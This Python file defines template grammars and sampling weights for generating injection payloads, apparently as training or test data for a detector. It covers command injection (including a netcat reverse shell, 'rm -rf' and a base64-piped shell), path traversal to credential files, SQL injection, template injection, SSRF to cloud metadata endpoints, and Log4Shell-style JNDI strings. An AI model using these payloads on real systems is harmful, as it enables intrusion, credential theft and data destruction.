"""Short payloads where applications take one: commands behind any separator, files by absolute and dotted paths, names of classes, addresses.

What is short holds few n-grams, so all spellings of how it is attached have to be seen: every separator of every shell, both ends, with and
without white space, alone or behind an ordinary value, in a path segment, a cookie, a member of a JSON text inside a field.
"""

_CMD = ["id", "ls", "ls -la", "dir", "pwd", "set", "env", "ps", "ps aux", "whoami", "uname -a", "hostname", "date", "ver", "net user", "ipconfig", "ifconfig",
        "cat /etc/{etc}", "type %SYSTEMROOT%\\win.ini", "ping -c {d} {host}", "ping -n {d} 127.0.0.1", "sleep {d}", "timeout {d}", "nslookup {host}",
        "curl {host}", "curl http://{host}/{word}", "wget {host}/{word}", "echo {word}", "echo {n}", "expr {n} + {n}", "printenv", "w", "uptime", "reboot",
        "nc {host} {port}", "nc -e /bin/sh {ip} {port}", "bash -i", "sh", "python -c 1", "perl -e 1", "php -v", "systeminfo", "tasklist", "netstat -an",
        "rm -rf /tmp/{word}", "touch /tmp/{word}", "head /etc/{etc}", "tail -{d} /etc/{etc}", "/bin/{bin}", "/usr/bin/{bin}", "grep {word} /etc/{etc}"]

# Homes on the servers that are attacked.
_ADMIN, _HOMES = "/root", "/home"

PLACED = {
    "cmdi": ["{before}{sep}{gap}{cmd}", "{before}{sep}{gap}{cmd}", "{before}{sep}{cmd}{sep}", "{before}{sep}{cmd}{gap}{sep}{after}", "{before}`{cmd}`{after}",
             "{before}$({cmd}){after}", "{before}<({cmd})", "{before}%0a{cmd}%0a", "{before}\n{cmd}\n", "{before}\r\n{cmd}", "{before}{quote}{sep}{cmd}{sep}{quote}",
             "{before}{quote}{sep}{gap}{cmd}{gap}#", "{json}", "{sep}{cmd}", "{sep}{cmd}", "{sep}{cmd}{sep}", "{before} {sep} {cmd} {sep} {word}",
             "{word}={word}{sep}{cmd}", "-{var} {word}{sep}{cmd}", "/{word}/{sep}{cmd}", "{word}.{ext}{sep}{cmd}", "@({cmd})", "{{{cmd2}}}", "%{cmd}%",
             "{before}{sep}{obscured}", "{sep}{obscured}{sep}", "$({obscured})"],
    "before": ["", "", "{n}", "{word}", "{ip}", "127.0.0.1", "{host}", "{word}@{host}", "{word}.{ext}", "a", "x", "-1", "{date}"],
    "after": ["", "", "{word}", "{d}", ".{host}"], "gap": ["", "", " ", "  ", "\t", "+", "${{IFS}}", "$IFS$9"],
    "sep": [";", ";", "|", "|", "||", "&", "&&", "\n", "%0a", "%26", "%7c", ";;", "|&", ";|", "&;", "\r\n", "%3b", "`", "%0d%0a", "%09;", "' ;", "\" ;", ");", "';"],
    "quote": ["'", "\"", "')", "\")", "\\'", "`"], "cmd": _CMD,
    "cmd2": ["cat,/etc/{etc}", "ls,-la", "echo,{word}", "curl,{host}", "ping,-c{d},{host}"],
    "obscured": ["c''at /etc/{etc}", "w'h'o'am'i", "wh\"\"oami", "l\\s -la", "/???/c?t /etc/pass??", "/bi*/ca* /e*/{etc}", "c$@at /etc/{etc}", "who$()ami", "$0 -c id",
                 "echo {b64}|base64 -d|sh", "rev<<<'di'|sh", "cat$IFS/etc/{etc}", "cat</etc/{etc}", "{{cat,/etc/{etc}}}", "who^ami", "n^et us^er", "p\\ing {host}",
                 "$(printf '\\x69\\x64')", "eval id", "exec id", "sh -c id", "bash -c 'id'", "cmd /c dir", "cmd.exe /c ver", "powershell -c ls", "busybox id", "${{PATH:0:1}}bin"],
    "json": ["{{\"{word}\":\"{before}{sep}{cmd}\"}}", "{{\"{word}\": \"$({cmd})\", \"{word}\": {n}}}", "[\"{word}\", \"`{cmd}`\"]", "{{\"{word}\":{{\"{word}\":\"{sep}{cmd}{sep}\"}}}}"],
    "ext": ["txt", "jpg", "pdf", "csv", "zip", "html"], "bin": ["id", "ls", "cat", "sh", "bash", "nc", "wget", "curl", "python3", "perl", "uname", "env", "whoami"],
    "etc": ["passwd", "shadow", "hosts", "group", "services", "hostname", "issue", "fstab", "resolv.conf", "crontab", "protocols", "networks", "profile", "shells",
            "sudoers", "ssh/sshd_config", "nginx/nginx.conf", "os-release", "mtab", "environment", "{word}", "{word}.conf", "{word}/{word}.conf", "mysql/my.cnf"],

    "path_traversal": ["{abs}", "{abs}", "{seg}{dots}{seg}{dots}{file}", "{word}{semi}{dots}{file}", "/{word}{semi}{word}/{file}", "{dots}{dots}{word}/{file}",
                       "{word}/{dots}{dots}{dots}{file}", "{alias}{dots}{file}", "/{alias}{dots}{file}", "~{word}", "000~ROOT~000/{file}", "/000~ROOT~000/{file}",
                       "/{word}/000~ROOT~000/{file}", "{drive}{wfile}", "\\\\{host}\\{word}", "file:{abs}", "file://{abs}", "jar:file:{abs}!/", "netdoc:{abs}",
                       "{json_path}", "@{dots}{dots}{file}", "{abs}%00", "{abs}%00.{ext}", "{abs}?", "{abs}#", "/%2e%2e/{file}", "/.{file}", "/./{file}", "//{file}",
                       "/{word}/../../{file}", "{word}/..", "..", "../", "..\\", "/..", "/../", "/{word}{semi}", "/..;/", "/{word}/..;/{word}", "/;/{word}", "/{word}/;/{word}"],
    # Files that attackers ask servers for, wherever those run.
    "abs": ["/{file}", "/{file}", "/etc/{etc}", "/etc/{etc}", "/proc/self/{proc}", "/proc/{n}/{proc}", "/proc/{sys}", "/var/log/{word}.log", "/var/log/{word}/{word}.log",
            _ADMIN + "/.{word}", _ADMIN + "/.ssh/id_rsa", _HOMES + "/{word}/.ssh/id_rsa", _HOMES + "/{word}/.bash_history", "/usr/local/{word}/{word}.conf", "/sys/class/net",
            "/dev/{dev}", "/tmp/{word}.php", "/var/www/{word}/.env", "/var/lib/{word}/{word}", "/run/secrets/{word}", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
    "file": ["etc/{etc}", "etc/{etc}", "proc/self/{proc}", "windows/win.ini", "winnt/win.ini", "boot.ini", "WEB-INF/web.xml", "META-INF/{word}.xml", ".env", ".git/config",
             ".git/HEAD", ".svn/entries", ".htaccess", ".htpasswd", "web.config", "app/etc/local.xml", "config/database.yml", "wp-config.php", "settings.py", "id_rsa",
             "{word}/{word}.conf", "var/log/{word}.log", "application.yml", "{word}.php", "{word}.jsp", "admin/{word}", "manager/html", "console", "actuator/{word}"],
    "proc": ["environ", "cmdline", "status", "maps", "mounts", "fd/{d}", "cwd", "exe", "net/tcp", "root"], "sys": ["version", "cpuinfo", "mounts", "net/arp", "net/route", "meminfo"],
    "dev": ["null", "zero", "random", "tcp/{ip}/{port}", "stdin", "mem"], "dots": ["../", "..\\", "..%2f", "%2e%2e/", "..;/", ".../", "....//", "..%5c", "%2e%2e%2f", "..%00/", "..%252f",
                                                                                 ".%2e/", "%2e./", "..%c0%af", "..%ef%bc%8f", "..%%32%66", "..%u2215", "..\\/", "..//"],
    "seg": ["", "", "{word}/", "{word}", "/{word}/", "./"], "semi": [";", ";a=b/", "..;/", ";/", "%3b/", ";.js/", "..;", "/..;/"], "alias": ["media", "static", "assets", "files", "images", "{word}", "js", "img"],
    "drive": ["c:\\", "C:/", "c:/", "file:///c:/", "\\\\?\\c:\\", "c%3a%5c", "d:\\"], "wfile": ["windows\\win.ini", "windows/win.ini", "boot.ini", "inetpub\\wwwroot\\web.config", "windows\\system32\\drivers\\etc\\hosts", "users\\{word}\\ntuser.dat"],
    "json_path": ["{{\"{word}\":\"{abs}\"}}", "{{\"{word}\": \"{dots}{dots}{file}\"}}", "[\"{abs}\"]", "{{\"path\":\"{dots}{file}\", \"{word}\": {n}}}"],

    "sqli": ["{col} {dir}, {fn}", "({fn})", "(case when ({cond}) then {col} else {col} end)", "{col},({select})", "{col}` {dir}", "{n} {dir}", "if({cond},{col},{n})",
             "{col} rlike ({select})", "extractvalue({n},concat(0x{hex},({select})))", "updatexml({n},concat(0x7e,{what}),{n})", "{n} and {fn}", "{n} or {cond}", "{n}-{fn}", "{n}*({select})",
             "{n} union {all}select {what},{what}", "-{n} union select {what}", "{n};{fn}", "{n} procedure analyse()", "{n} limit {d},{d} union select {what}", "{col}) and ({cond}",
             "{n}) and ({cond}", "{n})) or (({cond}", "{col} collate {word}", "{n}||{fn}", "{col}||({select})", "{n} group by {col} having {cond}", "{n} order by {d}", "{n} order by {n}-- -",
             "{n} and {cond}", "{word} and {cond}-- ", "{n} xor {cond}", "{n} div {d}", "{n}^({select})", "{n}=({select})", "exists({select})", "nvl(({select}),{n})", "{{\"{word}\":\"{word}' or {cond}-- \"}}",
             "{{\"{word}\": \"{n} union select {what}\"}}", "[\"{word}\",\"{word}') or ({cond}\"]", "{{\"sort\":\"{col},({select})\"}}"],
    "col": ["id", "name", "{word}", "price", "1", "2", "created_at", "u.{word}", "`{word}`"], "dir": ["asc", "desc", "ASC", "DESC", "asc nulls last"], "all": ["", "all ", "distinct "],
    "fn": ["sleep({d})", "benchmark({n},md5({d}))", "pg_sleep({d})", "waitfor delay '0:0:{d}'", "dbms_pipe.receive_message(chr({n}),{d})", "(select sleep({d}))", "(select*from(select(sleep({d})))a)", "version()", "user()",
           "database()", "load_file(0x{hex})", "randomblob({n}00000)", "utl_inaddr.get_host_address('{host}')", "xp_cmdshell('{word}')", "current_setting('{word}')"],
    "select": ["select {what}", "select {what} from {table}", "select {what} from {table} limit {d}", "select {what} from {table} where {cond}", "select count(*) from {table}", "select top {d} {what} from {table}"],
    "what": ["@@version", "version()", "user()", "database()", "password", "{word}", "null", "concat({word},0x3a,{word})", "group_concat({word})", "table_name", "1", "{n}", "current_user", "load_file('/etc/{etc}')", "char({n},{n})"],
    "table": ["users", "{word}", "information_schema.tables", "information_schema.columns", "mysql.user", "dual", "sysobjects", "sqlite_master", "pg_user", "all_tables", "pg_catalog.pg_tables", "sys.tables"],
    "cond": ["1=1", "{d}={d}", "1=2", "ascii(substr(({select}),{d},1))>{n}", "'{var}'='{var}'", "{n}>{n}", "exists({select})", "length({what})>{d}", "true", "1 like 1", "substring({what},{d},1)='{var}'", "({select})={n}", "not {d}<>{d}", "{n} in ({n},{n})", "{d} between {d} and {d}"],

    "ssti": ["{{{{{e}}}}}", "${{{e}}}", "#{{{e}}}", "{{%{e}%}}", "<%= {e} %>", "{{{e}}}", "[[${{{e}}}]]", "@({e})", "*{{{e}}}", "~{{{e}}}", "{e}", "#set($x={e})$x", "{{{{={e}}}}}", "[={e}]", "${{{{{e}}}}}", "a{{*{e}*}}b", "#{{{e}}}#", "{{@{e}}}", "%{{{e}}}",
             "#evaluate(\"{word}\")", "[#assign x={e}]${{x}}", "<#assign x=\"freemarker.template.utility.Execute\"?new()>", "__${{{e}}}__::.x", "{{php}}{word}{{/php}}", "{{{{config}}}}", "{{{{self}}}}", "{{{{_self.env}}}}", "{word}{{{{{e}}}}}{word}"],
    "e": ["{d}*{d}", "{n}*{n}", "{d}*'{d}'", "''.__class__", "''.__class__.__mro__[{d}].__subclasses__()", "config.items()", "request.application.__globals__", "lipsum.__globals__", "cycler.__init__.__globals__.os", "self.__init__.__globals__", "{word}.constructor.constructor('{word}')()",
          "new java.util.Date()", "T(java.lang.Runtime).getRuntime()", "\"{word}\".getClass().forName(\"{word}\")", "Runtime.getRuntime().exec('{word}')", "system('{word}')", "File.open('/etc/{etc}').read", "Kernel.exec('{word}')", "require('child_process').execSync('{word}')",
          "global.process.mainModule.require('{word}')", "range.constructor('return process')()", "_self.env.registerUndefinedFilterCallback('{word}')", "['{word}']|filter('system')", "['id']|map('passthru')", "app.request.server.all|join(',')", "dump(app)", "get_user_file('/etc/{etc}')", "{n}-{n}", "7*7",
          "#context['{word}']", "#rt=@java.lang.Runtime@getRuntime()", "@java.lang.Runtime@getRuntime()", "(#a=@{word}@{word}())", "applicationScope", "sessionScope.{word}", "pageContext.request.getSession()", "__import__('os').popen('{word}').read()", "open('/etc/{etc}').read()"],

    "ssrf": ["{s}{local}", "{s}{local}/{word}", "{s}{local}:{port}", "{s}{local}:{port}/{word}", "{s}{meta}", "{s}{meta}", "{odd}", "{odd}", "{s}{host}@{local}", "{s}{local}#{host}", "{s}{host}#@{local}/", "{s}{word}.{local}.nip.io", "{s}localtest.me/{word}", "dict://{local}:{port}/info",
             "gopher://{local}:{port}/_{word}", "ldap://{local}:{port}/{word}", "tftp://{ip}:{port}/{word}", "sftp://{ip}:{port}/", "netdoc:///etc/{etc}", "jar:http://{ip}/{word}.jar!/", "{{\"url\":\"{s}{local}/{word}\"}}", "{{\"{word}\": \"{s}{meta}\"}}"],
    "s": ["http://", "http://", "https://", "//", "HTTP://", "http:\\\\", "ftp://", "http:/", "url:http://"], "local": ["127.0.0.1", "localhost", "0.0.0.0", "0", "[::1]", "[::]", "127.1", "127.0.1", "2130706433", "0x7f000001", "0177.0.0.1", "0x7f.1", "127.127.127.127", "[::ffff:127.0.0.1]", "10.{d}.{d}.{d}", "192.168.{d}.{d}", "172.16.{d}.{d}", "169.254.169.254", "①②⑦.⓪.⓪.①", "kubernetes.default.svc", "host.docker.internal", "consul.service.consul", "metadata"],
    "meta": ["169.254.169.254/latest/meta-data/", "169.254.169.254/latest/meta-data/iam/security-credentials/{word}", "169.254.169.254/latest/user-data", "metadata.google.internal/computeMetadata/v1/", "169.254.169.254/metadata/instance?api-version=2021-02-01", "100.100.100.200/latest/meta-data/", "169.254.170.2/v2/credentials", "[fd00:ec2::254]/latest/meta-data/", "2852039166/latest/meta-data/", "169.254.169.254.nip.io/"],
    "odd": ["file:///etc/{etc}", "file:///proc/self/{proc}", "file:///c:/windows/win.ini", "gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall", "dict://127.0.0.1:11211/stats", "http://127.0.0.1:2375/containers/json", "http://127.0.0.1:9200/_cat/indices", "http://127.0.0.1:8500/v1/agent/self", "http://[::1]:22/", "http://localhost:25/%0d%0aHELO"],

    "java": ["{jndi}", "{jndi}", "{jndi}{word}", "{word}{jndi}", "{gadget}", "{gadget}", "{{\"@type\":\"{gadget}\"}}", "{{\"x\":{{\"@type\":\"{gadget}\",\"{word}\":\"ldap://{host}/{word}\"}}}}", "<{gadget}>", "<{word} class=\"{gadget}\"/>", "<sorted-set><{word}/><dynamic-proxy>", "<linked-hash-set><{gadget}>", "!!{gadget} [{word}]", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{host}/\"]]]]",
             "{groovy}", "{groovy}", "class.{word}.{word}={word}", "class.module.classLoader.{word}", "{gadget}.{word}", "new {gadget}()", "T({gadget})", "{word}.getClass()", "@{gadget}@{word}", "%{{#a=(new {gadget}(\"{word}\"))}}"],
    "jndi": ["${{jndi:{proto}://{host}/{word}}}", "${{${{lower:j}}ndi:{proto}://{host}/{var}}}", "${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{proto}://{ip}/{var}}}", "${{jndi:{proto}://{host}:{port}/${{env:{W}}}}}", "${{${{env:{W}:-j}}ndi${{env:{W}:-:}}{proto}://{host}/{var}}}", "${{jndi:${{lower:l}}dap://{host}}}", "{proto}://{host}:{port}/{word}", "${{sys:{word}.{word}}}", "${{env:{W}}}", "${{java:version}}", "${{ctx:{word}}}", "${{hostName}}", "j${{k8s:k5:-ND}}i", "${{script:javascript:{word}()}}", "${{url:UTF-8:http://{host}/}}", "${{dns:address|{host}}}", "${{date:yyyy}}"],
    "proto": ["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nis", "nds", "http"],
    "gadget": ["java.lang.Runtime", "java.lang.ProcessBuilder", "java.lang.ProcessImpl", "java.util.HashMap", "java.net.URL", "java.net.URLClassLoader", "java.beans.EventHandler", "javax.naming.ldap.Rdn$RdnEntry", "javax.script.ScriptEngineManager", "javax.imageio.ImageIO$ContainsFilter", "com.sun.rowset.JdbcRowSetImpl", "com.sun.jndi.{word}.{W}", "com.sun.org.apache.{word}.{W}", "com.sun.xml.{word}.{W}", "sun.nio.{word}.{W}", "sun.misc.Unsafe", "jdk.nashorn.internal.{word}.{W}",
               "org.apache.commons.collections.Transformer", "org.apache.commons.collections4.functors.{W}", "org.apache.commons.beanutils.{W}", "org.apache.commons.configuration.{W}", "org.apache.ibatis.{word}.{W}", "org.apache.shiro.{word}.{W}", "org.apache.tomcat.dbcp.{word}.{W}", "org.apache.xalan.{word}.{W}", "org.codehaus.groovy.runtime.{W}", "org.springframework.{word}.{word}.{W}", "org.springframework.context.support.{W}", "org.mozilla.javascript.{W}", "org.jboss.{word}.{W}", "org.hibernate.{word}.{W}",
               "com.mchange.v2.c3p0.{W}", "com.zaxxer.hikari.{W}", "ch.qos.logback.core.db.{W}", "oracle.jdbc.{word}.{W}", "net.sf.{word}.{W}", "bsh.Interpreter", "clojure.lang.{W}", "groovy.lang.GroovyShell", "groovy.util.Expando", "freemarker.template.utility.Execute", "weblogic.{word}.{W}", "br.com.anteros.dbcp.{W}"],
    "groovy": ["\"{word}\".execute()", "\"{word}\".execute().text", "['sh','-c','{word}'].execute()", "new GroovyShell().evaluate('{word}')", "println \"{word}\".execute().text", "def p=\"{word}\".execute()", "this.class.classLoader.{word}", "Eval.me('{word}')", "@groovy.transform.ASTTest(value={{assert {word}}})", "new File('/etc/{etc}').text", "throw new Exception(\"{word}\".execute().text)"],
}
PLACED_FAMILIES = {"cmdi": 0.14, "path_traversal": 0.14, "sqli": 0.1, "ssti": 0.07, "ssrf": 0.07, "java": 0.07}
